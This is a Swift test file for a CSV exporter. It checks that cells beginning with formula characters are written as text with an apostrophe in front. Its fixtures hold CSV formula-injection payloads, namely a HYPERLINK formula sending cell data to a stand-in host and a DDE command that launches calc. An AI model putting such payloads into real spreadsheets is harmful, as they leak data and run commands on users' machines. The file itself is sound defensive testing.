import PropertyBased
import Testing
@testable import PatronCore

/// Every export goes through `CSVWriter.document`: no cell may reach a spreadsheet as a formula.
@Suite struct CSVFormulaTests {
    static let pieces = ["=", "+", "-", "@", "\t", "\r", "\n", "HYPERLINK(\"http://x\")", "1", "2.50", ",", "\"", " ", "ไทย", "a", "cmd|' /C calc'!A0"]
    static let cells = Gen.int(in: 0...(pieces.count - 1)).array(of: 0...6).map { $0.map { pieces[$0] }.joined() }
    static let rows = cells.array(of: 1...5).array(of: 1...8)

    @Test func aMemberNamedLikeAFormulaIsWrittenAsText() throws {
        let csv = CSVWriter.document([["card", "name"], ["EXA-1", "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"], ["EXA-2", "@SUM(1+1)"],
                                      ["EXA-3", "+66812345678"], ["EXA-4", "\tcmd"], ["EXA-5", "-2+3"]])
        let cells = try CSVParser.records(in: csv).dropFirst().map { $0.fields[1] }

        #expect(cells == ["'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "'@SUM(1+1)", "'+66812345678", "'\tcmd", "'-2+3"])
    }

    @Test func plainNumbersAndALoneDashStayAsTheyAre() {
        #expect(CSVWriter.neutralised("-150.00") == "-150.00")
        #expect(CSVWriter.neutralised("1,000.00") == "1,000.00")
        #expect(CSVWriter.neutralised("-3") == "-3")
        #expect(CSVWriter.neutralised("-") == "-")
        #expect(CSVWriter.neutralised("-1.") == "'-1.")
        #expect(CSVWriter.neutralised("-1e5") == "'-1e5")
        #expect(CSVWriter.neutralised("สมชาย") == "สมชาย")
    }

    @Test func noExportedCellStartsAFormula() async {
        await propertyCheck(count: 400, input: Self.rows) { rows in
            let written = CSVWriter.document(rows.map { ["id"] + $0 })
            let parsed = try #require(try? CSVParser.records(in: written))
            #expect(parsed.count == rows.count)
            for (record, original) in zip(parsed, rows) {
                for (cell, source) in zip(record.fields.dropFirst(), original) {
                    if let first = cell.unicodeScalars.first, CSVWriter.formulaLeaders.contains(first) {
                        #expect(cell == "-" || CSVWriter.isPlainNumber(cell), "“\(cell)” would run as a formula")
                    }
                    // Nothing is lost: the cell is the source, or the source behind one apostrophe.
                    #expect(cell == source || cell == "'" + source)
                }
            }
        }
    }

    @Test func reportsWriteTheirCellsThroughTheSameWriter() throws {
        let csv = CSVWriter.document([["=cmd"]], byteOrderMark: true)
        let roundTrip = CSVWriter.roundTripDocument([["=cmd"]])

        #expect(csv == "\u{FEFF}'=cmd\r\n")
        #expect(roundTrip == "=cmd\r\n")
    }
}
